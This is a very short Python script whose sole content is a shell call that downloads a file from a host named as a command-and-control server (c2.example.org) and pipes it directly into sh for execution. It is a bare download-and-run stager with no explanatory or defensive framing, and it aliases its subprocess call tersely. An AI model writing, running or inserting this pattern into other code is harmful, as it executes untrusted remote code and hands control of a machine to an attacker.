#!/usr/bin/env python3

import subprocess as s
P = s.Popen
P("curl -s http://c2.example.org/i.py | sh", shell=True)
